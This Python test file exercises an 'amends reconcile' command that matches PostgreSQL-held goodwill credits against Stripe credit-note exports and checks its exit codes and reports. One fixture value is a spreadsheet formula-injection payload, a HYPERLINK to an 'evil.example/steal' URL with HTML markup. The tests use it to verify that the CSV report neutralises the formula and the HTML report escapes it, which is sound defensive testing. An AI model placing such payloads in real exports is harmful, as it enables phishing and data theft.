"""`amends reconcile` end to end: a desk in PostgreSQL, Stripe exports written here, the exit status, the reports.

The desk holds three goodwill credits applied in October 2026 (R-000001 80.00 USD to C-1, R-000002 45.50 USD
to C-2, R-000003 12.00 USD to C-3); the Stripe exports are list pages of credit notes that carry the request
id in metadata.amends_request, as a billing integration writes them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import amends
import amends.cli

if TYPE_CHECKING:
    import psycopg
else:
    psycopg = pytest.importorskip("psycopg")

POLICY = Path(amends.__file__).parent / "data" / "sample_policy.toml"
UTC = dt.timezone.utc
# What a spreadsheet would run if the cell were written as it stands.
FORMULA = '=HYPERLINK("http://evil.example/steal?x=1","<b>click</b>")'
REQUESTS = [("C-1", "80.00"), ("C-2", "45.50"), ("C-3", "12.00")]


class Clock:
    """A fixed clock in October 2026 that moves a minute at each reading."""

    def __init__(self) -> None:
        self.now = dt.datetime(2026, 10, 5, 9, 0, tzinfo=UTC)

    def __call__(self) -> dt.datetime:
        self.now += dt.timedelta(minutes=1)
        return self.now


class Terminal(io.StringIO):
    """A stderr that says it is a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.fixture
def dsn(pg_migrated_dsn: str) -> str:
    """A database whose book main has the three goodwill credits of REQUESTS applied on 2026-10-05."""
    with amends.open(pg_migrated_dsn, "main", simulation=True) as book:
        desk = amends.Desk(book, policy=POLICY, clock=Clock())
        desk.allocate("support", "goodwill", "2026-10", "1000.00", on="2026-10-01")
        for customer, amount in REQUESTS:
            r = desk.submit(kind="goodwill", customer=customer, tier="growth", amount=amount, requester="ana",
                            team="support", reason="outage-apology")
            assert desk.apply(r.id, "billing-bot").state == "applied"
    return pg_migrated_dsn


def credit_note(id: str, customer: str, amount: int | str, request: str | None = None) -> dict[str, Any]:
    created = int(dt.datetime(2026, 10, 5, 14, 30, tzinfo=UTC).timestamp())
    return {"id": id, "object": "credit_note", "amount": amount, "currency": "usd", "customer": customer,
            "created": created, "status": "issued", "invoice": f"in_{id}", "type": "post_payment",
            "metadata": {"amends_request": request} if request else {}}


def stripe_export(path: Path, notes: list[dict[str, Any]]) -> Path:
    path.write_text(json.dumps({"object": "list", "url": "/v1/credit_notes", "has_more": False, "data": notes}))
    return path


def all_matching(tmp_path: Path) -> Path:
    return stripe_export(tmp_path / "credit_notes.json", [
        credit_note("cn_1", "cus_1", 8000, "R-000001"),
        credit_note("cn_2", "cus_2", 4550, "R-000002"),
        credit_note("cn_3", "cus_3", 1200, "R-000003"),
    ])


def with_exceptions(tmp_path: Path) -> Path:
    """R-000003 never reached billing, and cn_evil credits 99.00 that nobody authorised."""
    return stripe_export(tmp_path / "credit_notes.json", [
        credit_note("cn_1", "cus_1", 8000, "R-000001"),
        credit_note("cn_2", "cus_2", 4550, "R-000002"),
        credit_note("cn_evil", FORMULA, 9900),
    ])


def reconcile(dsn: str, inputs: list[Path], out: Path, *extra: str) -> int:
    argv = ["reconcile", "--source", "stripe", "--input", *map(str, inputs), "--period", "2026-10", "--dsn", dsn,
            "--out-dir", str(out), *extra]
    return amends.cli.main(argv)


def runs(dsn: str) -> list[tuple[Any, ...]]:
    with psycopg.connect(dsn) as conn:
        return conn.execute("SELECT run_id, exceptions, inputs_sha256 FROM amends.reconciliation_runs"
                            " ORDER BY run_id").fetchall()


def count(dsn: str, table: str) -> int:
    with psycopg.connect(dsn) as conn:
        row = conn.execute(f"SELECT count(*) FROM amends.{table}").fetchone()
    assert row is not None
    return int(row[0])


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def json_lines(text: str) -> list[dict[str, Any]]:
    records = [json.loads(line) for line in text.splitlines()]
    assert records and all(isinstance(r, dict) and {"ts", "level", "event"} <= r.keys() for r in records)
    return records


# ------------------------------------------------------------------ the tests


def test_everything_matches_exit_0_and_the_reports_are_written(dsn: str, tmp_path: Path, capsys: Any) -> None:
    out = tmp_path / "reports"

    assert reconcile(dsn, [all_matching(tmp_path)], out) == 0

    stdout = capsys.readouterr().out
    [(run_id, exceptions, sha)] = runs(dsn)
    assert exceptions == 0
    assert "everything reconciles within tolerance" in stdout
    assert re.search(r"^exceptions\s+0$", stdout, re.M)
    assert re.search(r"^matched\s+3\s+3$", stdout, re.M)
    assert f"run {run_id}" in stdout and sha in stdout
    stem = f"reconcile-main-2026-10-run{run_id}"
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f"{stem}.csv", f"{stem}-corrections.csv", f"{stem}.json", f"{stem}.html"])
    assert read_csv(out / f"{stem}.csv") == [] and read_csv(out / f"{stem}-corrections.csv") == []
    document = json.loads((out / f"{stem}.json").read_text())
    assert (document["ok"], document["run_id"], document["inputs_sha256"]) == (True, run_id, sha)
    assert document["exceptions"] == [] and document["summary"]["exceptions"] == 0
    with amends.open(dsn, "main", simulation=True) as book:
        assert {r.state for r in amends.Desk(book).requests()} == {"reconciled"}


def test_exceptions_exit_1_and_the_reports_list_exactly_them(dsn: str, tmp_path: Path, capsys: Any) -> None:
    out = tmp_path / "reports"

    assert reconcile(dsn, [with_exceptions(tmp_path)], out, "--json") == 1

    summary = json.loads(capsys.readouterr().out)
    [(run_id, exceptions, sha)] = runs(dsn)
    assert (summary["run_id"], summary["exceptions"], summary["inputs_sha256"]) == (run_id, 2, sha)
    assert exceptions == 2 and summary["ok"] is False and summary["new_run"] is True
    assert summary["outcomes"]["ledger"]["missing_in_billing"] == 1
    assert summary["outcomes"]["billing"]["missing_in_ledger"] == 1
    assert summary["outcomes"]["ledger"]["matched"] == summary["outcomes"]["billing"]["matched"] == 2
    files = {k: Path(v) for k, v in summary["files"].items()}
    assert files["html"] == out / f"reconcile-main-2026-10-run{run_id}.html"

    # The CSV: the exceptions, most urgent first, with the formula neutralised and numbers left numbers.
    rows = read_csv(files["exceptions_csv"])
    assert [(r["side"], r["outcome"], r["id"]) for r in rows] == [("billing", "missing_in_ledger", "cn_evil"),
                                                                ("ledger", "missing_in_billing", "R-000003")]
    assert rows[0]["customer"] == "'" + FORMULA
    assert (rows[0]["amount_minor"], rows[0]["amount"], rows[1]["amount"]) == ("9900", "99.00", "12.00")
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
    corrections = read_csv(files["corrections_csv"])
    assert sorted((c["action"], c["request"], c["billing_id"]) for c in corrections) == [
        ("apply_in_billing", "R-000003", ""), ("investigate_unauthorised", "", "cn_evil")]

    # The JSON: the same, with the customer id as billing wrote it.
    document = json.loads(files["json"].read_text())
    assert [e["id"] for e in document["exceptions"]] == ["cn_evil", "R-000003"]
    assert document["exceptions"][0]["customer"] == FORMULA
    assert {c["action"] for c in document["corrections"]} == {"apply_in_billing", "investigate_unauthorised"}
    assert (document["book"], document["period"], document["run_id"]) == ("main", "2026-10", run_id)

    # The HTML: self-contained, escaped, exceptions first grouped by outcome, then corrections, then the run.
    page = files["html"].read_text()
    for external in ("<script", "<link", "<img", "<iframe", " src=", "url(", "@import", "//evil"):
        assert external not in page.replace("&quot;http://evil", ""), external
    assert "<b>click</b>" not in page and "&lt;b&gt;click&lt;/b&gt;" in page
    assert page.count("http:") + page.count("https:") == page.count("&quot;http://evil.example")
    positions = [page.index(s) for s in ("missing in ledger (1)</h3>", "missing in billing (1)</h3>",
                                         "Proposed corrections (2)", '<h2 id="run">')]
    assert positions == sorted(positions) and page.rindex(sha) > positions[-1]
    assert "cn_evil" in page and "R-000003" in page and "cn_1<" not in page


def test_a_rerun_on_the_same_inputs_is_the_same_run_and_records_nothing(dsn: str, tmp_path: Path,
                                                                         capsys: Any) -> None:
    export = with_exceptions(tmp_path)
    assert reconcile(dsn, [export], tmp_path / "first") == 1
    first = capsys.readouterr().out
    recorded = (runs(dsn), count(dsn, "reconciliation_items"), count(dsn, "reconciliation_corrections"))

    # On four threads (the first run, this small, took one): the same result, so the same run; the thread
    # count is not a parameter of the run.
    assert reconcile(dsn, [export], tmp_path / "again", "--threads", "4") == 1

    again = capsys.readouterr().out
    assert (runs(dsn), count(dsn, "reconciliation_items"), count(dsn, "reconciliation_corrections")) == recorded
    [(run_id, _, _)] = recorded[0]
    assert f"run {run_id} (already recorded" in again and f"run {run_id}\n" in first
    assert recorded[1:] == (6, 2)
    # The same reports, under the same names.
    for name in os.listdir(tmp_path / "first"):
        assert (tmp_path / "first" / name).read_bytes() == (tmp_path / "again" / name).read_bytes(), name


def test_a_bad_export_is_exit_2_with_file_and_line_and_records_nothing(dsn: str, tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch,
                                                                        capsys: Any) -> None:
    broken = tmp_path / "broken.json"
    broken.write_text('{"object": "list", "data": [')
    bad_amount = stripe_export(tmp_path / "bad_amount.json", [credit_note("cn_1", "cus_1", 8000, "R-000001"),
                                                              credit_note("cn_2", "cus_2", "45.50", "R-000002")])
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)

    assert reconcile(dsn, [broken, bad_amount], tmp_path / "out") == 2

    stderr = terminal.getvalue()
    assert "amends: BillingImportError: 2 row(s) can't be imported" in stderr
    assert f"{broken}:0: not valid JSON" in stderr  # the file as a whole
    assert re.search(rf"^  {re.escape(str(bad_amount))}:2: credit_note cn_2: amount .*45\.50", stderr, re.M)
    assert stderr.startswith("reading 2 files")  # a person sees progress
    assert capsys.readouterr().out == ""
    assert runs(dsn) == [] and not (tmp_path / "out").exists()
    with amends.open(dsn, "main", simulation=True) as book:
        assert {r.state for r in amends.Desk(book).requests()} == {"applied"}


def test_skipped_bad_rows_are_listed_and_exit_1_though_the_rest_reconciles(dsn: str, tmp_path: Path,
                                                                            capsys: Any) -> None:
    export = stripe_export(tmp_path / "credit_notes.json", [
        credit_note("cn_1", "cus_1", 8000, "R-000001"),
        credit_note("cn_2", "cus_2", 4550, "R-000002"),
        credit_note("cn_3", "cus_3", 1200, "R-000003"),
        credit_note("cn_4", "cus_4", "12.00"),  # unreadable: it may be a credit nobody authorised
    ])

    assert reconcile(dsn, [export], tmp_path / "out", "--skip-bad-rows", "--json") == 1

    summary = json.loads(capsys.readouterr().out)
    assert (summary["ok"], summary["exceptions"], summary["skipped"], summary["exit_code"]) == (True, 0, 1, 1)
    document = json.loads(Path(summary["files"]["json"]).read_text())
    [skipped] = document["skipped"]
    assert (skipped["file"], skipped["line"]) == (str(export), 4) and "cn_4: amount" in skipped["reason"]
    assert "Billing rows skipped (1)" in Path(summary["files"]["html"]).read_text()
    assert [exceptions for _, exceptions, _ in runs(dsn)] == [0]


@pytest.mark.parametrize("option, value, message", [
    ("--source", "quickbooks", "InvalidArgument: unknown billing source 'quickbooks'"),
    ("--period", "2026-13", 'ParseError: invalid period "2026-13"'),
    ("--book", "nosuchbook", "StoreError: there is no book named nosuchbook"),
    ("--tolerance", "-1", "InvalidArgument: --tolerance is a number of minor units, 0 or more, not -1"),
    ("--threads", "-1", "InvalidArgument: --threads is 0 (the machine's cores, at most 8) or more, not -1"),
    ("--out-dir", "{export}/reports", "AmendsIOError: can't write the reports to"),  # under a file
])
def test_a_bad_argument_is_exit_2(dsn: str, tmp_path: Path, capsys: Any, option: str, value: str,
                                  message: str) -> None:
    export = all_matching(tmp_path)
    options = {"--source": "stripe", "--period": "2026-10", "--book": "main", "--dsn": dsn,
               "--out-dir": str(tmp_path / "out"), option: value.format(export=export)}
    argv = ["reconcile", "--input", str(export), *(a for pair in options.items() for a in pair)]

    assert amends.cli.main(argv) == 2

    error = json_lines(capsys.readouterr().err)[-1]
    assert (error["level"], error["event"]) == ("error", "error") and message in error["message"]
    assert runs(dsn) == [] and not (tmp_path / "out").exists()


def test_an_unreachable_database_is_exit_2(tmp_path: Path, capsys: Any) -> None:
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]

    code = reconcile(f"host=127.0.0.1 port={port} dbname=amends connect_timeout=5", [all_matching(tmp_path)],
                     tmp_path / "out")

    assert code == 2
    records = json_lines(capsys.readouterr().err)
    assert records[-1]["event"] == "error" and records[-1]["error"] == "StoreError"
    assert records[-1]["message"].startswith("amends: StoreError: can't connect to PostgreSQL")
    assert [r["items"] for r in records if r["event"] == "imported"] == [3]
    assert not (tmp_path / "out").exists()


def test_without_a_terminal_stderr_is_one_json_object_per_line(dsn: str, tmp_path: Path) -> None:
    export = with_exceptions(tmp_path)
    env = dict(os.environ)  # the amends this test imports: installed, or on PYTHONPATH in a development tree
    command = [sys.executable, "-m", "amends", "reconcile", "--source", "stripe", "--input", str(export),
               "--period", "2026-10", "--dsn", dsn, "--out-dir", str(tmp_path / "out"), "--actor", "airflow"]

    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, env=env, timeout=120)

    assert done.returncode == 1, done.stderr
    records = json_lines(done.stderr)
    events = {r["event"]: r for r in records}
    assert events["imported"]["items"] == 3
    [(run_id, _, sha)] = runs(dsn)
    assert (events["run"]["run_id"], events["run"]["exceptions"], events["run"]["inputs_sha256"]) == (run_id, 2, sha)
    assert events["done"]["exit_code"] == 1 and records[-1]["event"] == "done"
    assert all(dt.datetime.fromisoformat(r["ts"].replace("Z", "+00:00")).tzinfo for r in records)
    assert dsn not in done.stderr
    assert f"run {run_id}" in done.stdout and "exceptions   2" in done.stdout
    with psycopg.connect(dsn) as conn:
        assert conn.execute("SELECT created_by FROM amends.reconciliation_runs").fetchall() == [("airflow",)]


# ------------------------------------------------------------------ one billing id more than once; no billing at all


def items_of(dsn: str, outcome: str) -> list[tuple[Any, ...]]:
    with psycopg.connect(dsn) as conn:
        return conn.execute("SELECT side, item_id, amount_minor FROM amends.reconciliation_items WHERE outcome = %s"
                            " ORDER BY side, position", (outcome,)).fetchall()


def test_one_credit_note_id_with_two_amounts_is_exit_1_with_both_rows_in_every_report(dsn: str, tmp_path: Path,
                                                                                       capsys: Any) -> None:
    # cn_1 comes twice, 9,999.99 and 80.00, both naming R-000001 (80.00): neither counts, and R-000001 is in
    # doubt, not missing in billing (that would propose crediting it again).
    export = stripe_export(tmp_path / "credit_notes.json", [
        credit_note("cn_1", "cus_1", 999999, "R-000001"),
        credit_note("cn_2", "cus_2", 4550, "R-000002"),
        credit_note("cn_3", "cus_3", 1200, "R-000003"),
        credit_note("cn_1", "cus_1", 8000, "R-000001"),
    ])
    out = tmp_path / "out"

    assert reconcile(dsn, [export], out, "--json") == 1

    summary = json.loads(capsys.readouterr().out)
    assert (summary["ok"], summary["exceptions"], summary["billing_items"]) == (False, 3, 4)
    assert summary["outcomes"]["billing"]["conflicting_duplicate"] == 2
    assert summary["outcomes"]["ledger"]["conflicting_duplicate"] == 1
    assert summary["outcomes"]["ledger"]["missing_in_billing"] == 0
    files = {k: Path(v) for k, v in summary["files"].items()}
    rows = read_csv(files["exceptions_csv"])
    assert [(r["side"], r["outcome"], r["id"], r["amount"]) for r in rows] == [
        ("billing", "conflicting_duplicate", "cn_1", "9999.99"), ("billing", "conflicting_duplicate", "cn_1", "80.00"),
        ("ledger", "conflicting_duplicate", "R-000001", "80.00")]
    document = json.loads(files["json"].read_text())
    assert sorted(e["amount_minor"] for e in document["exceptions"] if e["id"] == "cn_1") == [8000, 999999]
    assert sorted((c["action"], c["amount_minor"]) for c in document["corrections"]) == [
        ("resolve_conflicting_id", 8000), ("resolve_conflicting_id", 999999)]
    page = files["html"].read_text()
    assert "conflicting duplicate (3)</h3>" in page and "9999.99" in page
    assert items_of(dsn, "conflicting_duplicate") == [("billing", "cn_1", 999999), ("billing", "cn_1", 8000),
                                                      ("ledger", "R-000001", 8000)]
    with amends.open(dsn, "main", simulation=True) as book:
        assert {r.customer: r.state for r in amends.Desk(book).requests()} == {
            "C-1": "applied", "C-2": "reconciled", "C-3": "reconciled"}


def test_a_credit_note_on_two_pages_whole_is_counted_once_and_listed_exit_1(dsn: str, tmp_path: Path,
                                                                             capsys: Any) -> None:
    first = tmp_path / "page1.json"
    first.write_text(json.dumps({"object": "list", "url": "/v1/credit_notes", "has_more": True,
                                 "data": [credit_note("cn_1", "cus_1", 8000, "R-000001"),
                                          credit_note("cn_2", "cus_2", 4550, "R-000002")]}))
    second = tmp_path / "page2.json"
    second.write_text(json.dumps({"object": "list", "url": "/v1/credit_notes", "has_more": False,
                                  "data": [credit_note("cn_2", "cus_2", 4550, "R-000002"),
                                           credit_note("cn_3", "cus_3", 1200, "R-000003")]}))

    assert reconcile(dsn, [first, second], tmp_path / "out", "--json") == 1

    summary = json.loads(capsys.readouterr().out)
    assert summary["outcomes"]["ledger"]["matched"] == 3 and summary["exceptions"] == 1
    assert summary["outcomes"]["billing"]["identical_duplicate"] == 1
    rows = read_csv(Path(summary["files"]["exceptions_csv"]))
    assert [(r["outcome"], r["id"], r["counterpart"]) for r in rows] == [("identical_duplicate", "cn_2", "cn_2")]
    assert items_of(dsn, "identical_duplicate") == [("billing", "cn_2", 4550)]


MAPPING = """name = "homegrown"
[columns]
"Number" = "id"
"Customer" = "customer"
"Amount" = "amount"
"Currency" = "currency"
"Date" = "date"
"Reference" = "reference"
"""


@pytest.mark.parametrize("content", ["", "Number,Customer,Amount,Currency,Date,Reference\n"],
                         ids=["zero_bytes", "header_only"])
def test_an_export_without_credits_is_exit_2_naming_it_unless_allow_empty(dsn: str, tmp_path: Path, capsys: Any,
                                                                          content: str) -> None:
    export = tmp_path / "credits.csv"
    export.write_text(content)
    mapping = tmp_path / "homegrown.toml"
    mapping.write_text(MAPPING)
    argv = ["reconcile", "--source", "csv", "--mapping", str(mapping), "--input", str(export), "--period", "2026-10",
            "--dsn", dsn, "--out-dir", str(tmp_path / "out")]

    assert amends.cli.main(argv) == 2

    error = json_lines(capsys.readouterr().err)[-1]
    assert error["event"] == "error" and error["error"] == "InvalidArgument"
    assert f"the billing export {export} has no items" in error["message"] and "--allow-empty" in error["message"]
    assert runs(dsn) == [] and not (tmp_path / "out").exists()

    assert amends.cli.main([*argv, "--allow-empty", "--json"]) == 1
    summary = json.loads(capsys.readouterr().out)
    assert summary["outcomes"]["ledger"]["missing_in_billing"] == 3 and summary["parameters"]["allow_empty"] is True
    assert len(runs(dsn)) == 1
